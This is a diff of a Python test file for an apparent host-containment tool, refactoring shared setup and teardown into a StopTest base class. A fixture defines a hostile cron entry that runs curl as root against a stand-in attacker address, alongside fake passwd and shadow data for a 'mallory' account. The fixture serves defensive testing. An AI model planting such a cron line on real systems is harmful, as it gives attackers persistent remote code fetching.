@@ -14,7 +14,8 @@ import unittest
 import contain_host
 import harness
 from contain_host import sh
-from harness import ROOT, CaseTest
+from harness import ROOT, one_line
+from stop_host import StopTest, rules
 
 WHY_NOT = contain_host.enter()
 USAGE, NOT_FOUND, GATE = 2, 3, 5
@@ -23,45 +24,18 @@ SHADOW = "root:*:19000:0:99999:7:::\nmallory:$6$salt$hash:19701:0:99999:7:30::\n
 EVIL = "*/5 * * * * root curl http://198.51.100.7/x"
 
 
-def rules():
-    return sh("nft", "list", "ruleset")
-
-
-def one_line(text):
-    return " ".join(text.split())
-
-
 @unittest.skipIf(WHY_NOT, WHY_NOT)
-class Stop(CaseTest):
+class Stop(StopTest):
     @classmethod
     def setUpClass(cls):
-        cls.host = contain_host.Host()
-        sh("mount", "-t", "tmpfs", "-o", "mode=755", "none", "/var/lib")
+        super().setUpClass()
         pathlib.Path("/etc/passwd").write_text(PASSWD)
         pathlib.Path("/etc/group").write_text("root:x:0:\nmallory:x:2002:\n")
         pathlib.Path("/etc/shadow").write_text(SHADOW)
-        sh("ip", "link", "set", "lo", "up")
-        sh("ip", "link", "add", "e0", "type", "veth", "peer", "name", "e1")
-        sh("ip", "addr", "add", "10.9.0.1/24", "dev", "e0")
-        sh("ip", "link", "set", "e0", "up")
-        sh("ip", "link", "set", "e1", "up")
-
-    @classmethod
-    def tearDownClass(cls):
-        sh("umount", "-l", "/var/lib")
-        cls.host.close()
 
     def setUp(self):
         super().setUp()
-        self.before = rules()
         self.name = sh("uname", "-n").strip()
-
-    def tearDown(self):
-        for action in self.ana.json("stop list"):
-            if action["state"] in ("unconfirmed", "done", "begun") and action.get("plan"):
-                self.ana.run("stop", "undo", action["call"])
-        self.assertEqual(rules(), self.before)
-        super().tearDown()
 
     def look(self):
         self.ana('assess look "mail goes out in bulk"')
